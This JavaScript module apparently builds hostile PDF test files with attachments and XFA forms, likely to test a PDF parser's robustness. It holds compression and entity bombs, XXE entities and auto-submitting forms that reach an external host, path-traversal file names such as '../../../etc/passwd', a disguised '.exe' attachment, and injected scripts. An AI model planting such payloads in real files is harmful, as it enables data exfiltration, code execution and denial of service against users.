// PDF files with files attached, and with forms that only Adobe's reader draws (XFA), that lie or make much of little.
import { docx, paragraph, zip } from "../samples/formats.mjs";
import { fill, INHERITED, LINE, MEGABYTE, NUMBERS, noise, payloads, script, zlibbed } from "./kit.mjs";
import { file, page, stream, TEXT } from "./pdf-objects.mjs";

/** Parentheses and backslashes as PDF's strings have them. */
const quoted = (name) => `(${name.replaceAll(/[\\()]/g, "\\$&")})`;

const specification = (name, object, more = "") =>
  `<< /Type /Filespec /F ${quoted(name)} /EF << /F ${object} 0 R >> ${more} >>`;

const catalog = (names, more = "") => `<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles ${names} >> ${more} >>`;

/** A file with these attached: names, and contents as they are written. */
function withFiles(files) {
  const names = files.map(([name], at) => `(${at}) ${specification(name, 10 + at)}`);
  return file({
    1: catalog(`<< /Names [${names.join(" ")}] >>`),
    ...Object.fromEntries(files.map(([, content], at) => [10 + at, content])),
  });
}

const embedded = (content, more = "") => stream(content, `/Type /EmbeddedFile ${more}`);

function* attachments({ elsewhere }) {
  yield ["attached-names-itself.pdf", file({ 1: catalog("6 0 R"), 6: "<< /Kids [6 0 R 6 0 R] >>" })];
  yield [
    "attached-names-circle.pdf",
    file({ 1: catalog("6 0 R"), 6: "<< /Kids [7 0 R] >>", 7: "<< /Kids [6 0 R] >>" }),
  ];
  yield ["attached-names-odd.pdf", file({ 1: catalog("<< /Names [(a) 7 (b) null 5 (c)] /Kids 3 /Limits 7 >>") })];
  yield ["attached-itself.pdf", file({ 1: catalog(`<< /Names [(a) 6 0 R] >>`), 6: "<< /F (a) /EF << /F 6 0 R >> >>" })];
  yield ["attached-page.pdf", file({ 1: catalog(`<< /Names [(a) ${specification("a.txt", 5)}] >>`) })];
  const one = (content) => file({ 1: catalog("<< /Names [(a) 6 0 R] >>"), 6: specification("a.txt", 7), 7: content });
  yield [
    "attached-same-often.pdf",
    file({
      1: catalog(`<< /Names [${fill("(a) 6 0 R ", 400_000)}] >>`),
      6: specification("a.txt", 7),
      7: embedded(LINE),
    }),
  ];
  yield [
    "attached-same-other-names.pdf",
    file({
      1: catalog(
        `<< /Names [${Array.from({ length: 200 }, (_, at) => `(${at}) ${specification(`${at}.txt`, 7)}`).join(" ")}] >>`,
      ),
      7: embedded(fill(LINE, 200_000)),
    }),
  ];
  yield ["attached-many.pdf", withFiles(Array.from({ length: 3_000 }, (_, at) => [`${at}.txt`, embedded("a")]))];
  yield ["attached-bomb.pdf", one(embedded(zlibbed(fill(" ", 65_536), 8_000), "/Filter /FlateDecode"))];
  yield [
    "attached-bombs.pdf",
    withFiles(
      Array.from({ length: 12 }, (_, at) => [
        `${at}.txt`,
        embedded(zlibbed(fill(" ", 65_536), 220), "/Filter /FlateDecode"),
      ]),
    ),
  ];
  yield ["attached-filters.pdf", one(embedded("x", `/Filter [${fill("/ASCIIHexDecode ", 30_000)}]`))];
  yield ["attached-filter-unknown.pdf", one(embedded(LINE, "/Filter /toString"))];
  for (const [at, number] of NUMBERS.entries())
    yield [`attached-length-${at}.pdf`, one(stream(LINE, "/Type /EmbeddedFile", number))];
  yield ["attached-size.pdf", one(embedded(LINE, "/Params << /Size 99999999999 /CheckSum (a) >>"))];
  yield ["attached-missing.pdf", one("null")];
  yield [
    "attached-noise.pdf",
    withFiles([
      ["a.docx", embedded(noise(5_000))],
      ["b.zip", embedded(noise(5_000, 2))],
    ]),
  ];
  yield [
    "attached-names.pdf",
    withFiles([
      ...["../../../etc/passwd", "C:\\up\\..\\a.txt", "/etc/shadow", "", "a/\0b.txt", "con.txt"].map((name) => [
        name,
        embedded(LINE),
      ]),
      ...INHERITED.map((name) => [name, embedded(LINE)]),
      ...payloads(elsewhere).map((payload) => [payload, embedded(`${payload} ${LINE}`)]),
    ]),
  ];
  yield ["attached-name-long.pdf", withFiles([[fill("a/", MEGABYTE), embedded(LINE)]])];
  yield ["attached-program.pdf", withFiles([["invoice.pdf.exe", embedded(`MZ\x90\0${noise(2_000).join("")}`)]])];
  let nested = withFiles([["a.txt", embedded(LINE)]]);
  for (let level = 0; level < 12; level++) nested = withFiles([["a.pdf", embedded(nested)]]);
  yield ["attached-nested.pdf", nested];
  yield [
    "attached-zip-bomb.pdf",
    () => {
      const zipped = zip({ "a.txt": fill("a", 40 * MEGABYTE) });
      return withFiles([
        ["a.zip", embedded(zipped)],
        ["b.zip", embedded(zipped)],
      ]);
    },
  ];
  yield [
    "attached-remote.pdf",
    file({
      1: catalog(
        `<< /Names [(a) << /Type /Filespec /FS /URL /F (${elsewhere}/attached.txt) /EF << /F 10 0 R >> >>] >>`,
      ),
      10: embedded("x", `/F << /FS /URL /F (${elsewhere}/stream.txt) >> /FFilter /FlateDecode`),
    }),
  ];
  yield [
    "attached-active.pdf",
    file({
      1: catalog(
        `<< /Names [(a) ${specification("a.html", 10)}] >>`,
        "/OpenAction << /S /GoToE /T << /R /C /N (a) >> /NewWindow true >>",
      ),
      10: embedded(`<html><script>${script(elsewhere)}</script><p>${LINE}</p></html>`),
    }),
  ];
  yield [
    "attached-document.pdf",
    withFiles([
      [
        "a.docx",
        embedded(
          docx(
            payloads(elsewhere)
              .map((payload) => paragraph(`${payload.replaceAll("&", "&amp;").replaceAll("<", "&lt;")} ${LINE}`))
              .join(""),
          ),
        ),
      ],
    ]),
  ];
  // Pins on the page, each with the same file.
  yield [
    "attached-pins.pdf",
    file({
      ...page(TEXT),
      4: `<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [${fill("6 0 R ", 60_000)}] /Resources << /Font << /F1 3 0 R >> >> >>`,
      6: `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${specification("a.txt", 7)} >>`,
      7: embedded(LINE),
    }),
  ];
  yield [
    "attached-pin-itself.pdf",
    file({
      4: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [6 0 R] /Resources << /Font << /F1 3 0 R >> >> >>",
      6: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R /EF << /F 6 0 R >> >>",
    }),
  ];
}

const TEMPLATE = "http://www.xfa.org/schema/xfa-template/3.3/";

/** A file whose form is this XML, or another object. */
const withForm = (xml, more = {}) =>
  file({
    1: "<< /Type /Catalog /Pages 2 0 R /NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >> >>",
    6: typeof xml === "string" ? stream(Buffer.from(xml)) : xml,
    ...more,
  });

const xdp = (template, { data = "", head = "", more = "" } = {}) =>
  `${head}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="${TEMPLATE}"><subform name="form" layout="tb"><pageSet><pageArea><contentArea x="10mm" y="10mm" w="190mm" h="270mm"/><medium stock="a4" short="210mm" long="297mm"/></pageArea></pageSet>${template}</subform></template>` +
  `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form>${data}</form></xfa:data></xfa:datasets>${more}</xdp:xdp>`;

const draw = (text) => `<draw w="100mm" h="10mm"><value><text>${text}</text></value></draw>`;
const field = (name, more = "") => `<field name="${name}" w="100mm" h="10mm"><ui><textEdit/></ui>${more}</field>`;
const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

function* forms({ elsewhere }) {
  const words = draw(LINE);
  yield ["xfa-draws-many.pdf", withForm(xdp(draw("a").repeat(3_000)))];
  yield ["xfa-fields-many.pdf", withForm(xdp(field("a").repeat(2_000), { data: "<a>b</a>".repeat(2_000) }))];
  yield [
    "xfa-deep.pdf",
    withForm(xdp(`${'<subform layout="tb">'.repeat(5_000)}${words}${"</subform>".repeat(5_000)}`)),
  ];
  yield ["xfa-deep-open.pdf", withForm(xdp('<subform layout="tb">'.repeat(50_000)))];
  yield ["xfa-data-deep.pdf", withForm(xdp(words, { data: `${"<a>".repeat(20_000)}b${"</a>".repeat(20_000)}` }))];
  yield ["xfa-data-many.pdf", withForm(xdp(words + field("a"), { data: "<a>b</a>".repeat(200_000) }))];
  const entities = `<!DOCTYPE x [<!ENTITY a "${fill("a", 1_000)}"><!ENTITY b "${fill("&a;", 4_000)}"><!ENTITY c "${fill("&b;", 4_000)}">]>`;
  yield ["xfa-entities.pdf", withForm(xdp(draw("&c;"), { head: entities }))];
  yield [
    "xfa-entity-system.pdf",
    withForm(
      xdp(draw("&a;"), {
        head: `<!DOCTYPE x [<!ENTITY a SYSTEM "${elsewhere}/entity"><!ENTITY % p SYSTEM "${elsewhere}/dtd">%p;]>`,
      }),
    ),
  ];
  for (const [at, number] of NUMBERS.entries())
    yield [
      `xfa-occurs-${at}.pdf`,
      withForm(
        xdp(
          `<subform layout="tb" name="s"><occur min="${number}" max="${number}" initial="${number}"/>${words}</subform>`,
        ),
      ),
    ];
  yield [
    "xfa-occurs-many.pdf",
    withForm(xdp(`<subform layout="tb" name="s"><occur min="200000" max="-1" initial="200000"/>${words}</subform>`)),
  ];
  yield [
    "xfa-occurs-nested.pdf",
    withForm(
      xdp(
        `${'<subform layout="tb"><occur min="40" max="40" initial="40"/>'.repeat(6)}${words}${"</subform>".repeat(6)}`,
      ),
    ),
  ];
  yield [
    "xfa-occurs-data.pdf",
    withForm(
      xdp(`<subform layout="tb" name="s"><occur min="0" max="-1"/>${field("a")}</subform>`, {
        data: "<s><a>b</a></s>".repeat(3_000),
      }),
    ),
  ];
  for (const [at, size] of ["0mm", "-5mm", "1e308in", "NaNmm", "99999999999in"].entries())
    yield [
      `xfa-size-${at}.pdf`,
      withForm(xdp(`<draw w="${size}" h="${size}" x="${size}"><value><text>${LINE}</text></value></draw>`)),
    ];
  yield ["xfa-page-small.pdf", withForm(xdp(words.repeat(200)).replace('w="190mm" h="270mm"', 'w="1mm" h="1mm"'))];
  yield [
    "xfa-pages-many.pdf",
    withForm(
      xdp(`<subform layout="tb"><breakBefore targetType="pageArea" startNew="1"/>${words}</subform>`.repeat(3_000)),
    ),
  ];
  yield [
    "xfa-break-itself.pdf",
    withForm(
      xdp(
        `<subform layout="tb" id="s"><break beforeTarget="#s" overflowTarget="#s" before="pageArea" startNew="1"/><overflow target="#s" leader="#s" trailer="#s"/>${words}</subform>`,
      ),
    ),
  ];
  yield [
    "xfa-proto-itself.pdf",
    withForm(
      xdp(
        `<subform id="a" use="#a" layout="tb">${words}</subform><proto><subform id="b" use="#c"/><subform id="c" use="#b"/></proto><subform use="#b"/>`,
      ),
    ),
  ];
  yield [
    "xfa-proto-doubling.pdf",
    withForm(
      xdp(
        `<proto>${Array.from({ length: 26 }, (_, at) => `<subform id="p${at}" layout="tb"><subform use="#p${at + 1}"/><subform use="#p${at + 1}"/></subform>`).join("")}<subform id="p26">${words}</subform></proto><subform use="#p0"/>`,
      ),
    ),
  ];
  yield [
    "xfa-bind-expression.pdf",
    withForm(
      xdp(`<field name="a"><bind match="dataRef" ref="$.${fill("..*[*].", 20_000)}a"/><ui><textEdit/></ui></field>`, {
        data: "<a>b</a>".repeat(50),
      }),
    ),
  ];
  yield [
    "xfa-script.pdf",
    withForm(
      xdp(
        `${words}${field("a", `<event activity="initialize"><script contentType="application/x-javascript">${escaped(script(elsewhere))};while(true){}</script></event><calculate><script contentType="application/x-formcalc">while (1) do endwhile</script></calculate>`)}`,
      ),
    ),
  ];
  yield [
    "xfa-submits.pdf",
    withForm(
      xdp(
        `${words}${field("a", `<event activity="docReady"><submit format="xdp" target="${elsewhere}/submit"/></event>`)}`,
      ),
    ),
  ];
  yield [
    "xfa-image-remote.pdf",
    withForm(
      xdp(
        `${words}<draw w="9mm" h="9mm"><value><image href="${elsewhere}/image.png" contentType="image/png"/></value></draw><draw><value><exData href="${elsewhere}/data" contentType="text/html">a</exData></value></draw>`,
      ),
    ),
  ];
  yield [
    "xfa-image-large.pdf",
    withForm(
      xdp(
        `${words}<draw w="9mm" h="9mm"><value><image contentType="image/png">${fill("AAAA", 2 * MEGABYTE)}</image></value></draw>`,
      ),
    ),
  ];
  const html = (body) =>
    `<draw w="100mm" h="10mm"><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml">${body}</body></exData></value></draw>`;
  yield ["xfa-html-deep.pdf", withForm(xdp(html(`${"<p><span>".repeat(5_000)}a${"</span></p>".repeat(5_000)}`)))];
  yield [
    "xfa-html-active.pdf",
    withForm(
      xdp(
        html(
          `<p>${LINE}<a href="javascript:window.__injected=1">a</a><img src="${elsewhere}/i.png" onerror="alert(1)"/><script>alert(1)</script></p>`,
        ),
      ),
    ),
  ];
  yield [
    "xfa-inherited.pdf",
    withForm(
      xdp(INHERITED.map((name) => field(name)).join(""), {
        data: INHERITED.map((name) => `<${name}>a</${name}>`).join(""),
      }),
    ),
  ];
  yield [
    "xfa-elements-inherited.pdf",
    withForm(xdp(words, { more: INHERITED.map((name) => `<${name} ${name}="a"/>`).join("") })),
  ];
  yield ["xfa-list-odd.pdf", withForm("[(template) 6 0 R (a) null 7 6 0 R]")];
  yield ["xfa-list-many.pdf", withForm(`[${fill("(template) 7 0 R ", 200_000)}]`, { 7: stream("<a/>") })];
  yield ["xfa-itself.pdf", withForm("6 0 R")];
  yield ["xfa-bomb.pdf", withForm(stream(zlibbed(fill("<a>", 65_535), 8_000), "/Filter /FlateDecode"))];
  yield ["xfa-noise.pdf", withForm(stream(noise(20_000)))];
  yield ["xfa-empty.pdf", withForm("")];
  const whole = xdp(words);
  for (const at of [30, 200, 400, whole.length - 20]) yield [`xfa-cut-${at}.pdf`, withForm(whole.slice(0, at))];
  for (const [at, payload] of payloads(elsewhere).entries())
    yield [`inject-xfa-${at}.pdf`, withForm(xdp(draw(escaped(`${payload} ${LINE}`))))];
}

/** Files by name. */
export function* attachedAndForms(options) {
  yield* attachments(options);
  yield* forms(options);
}
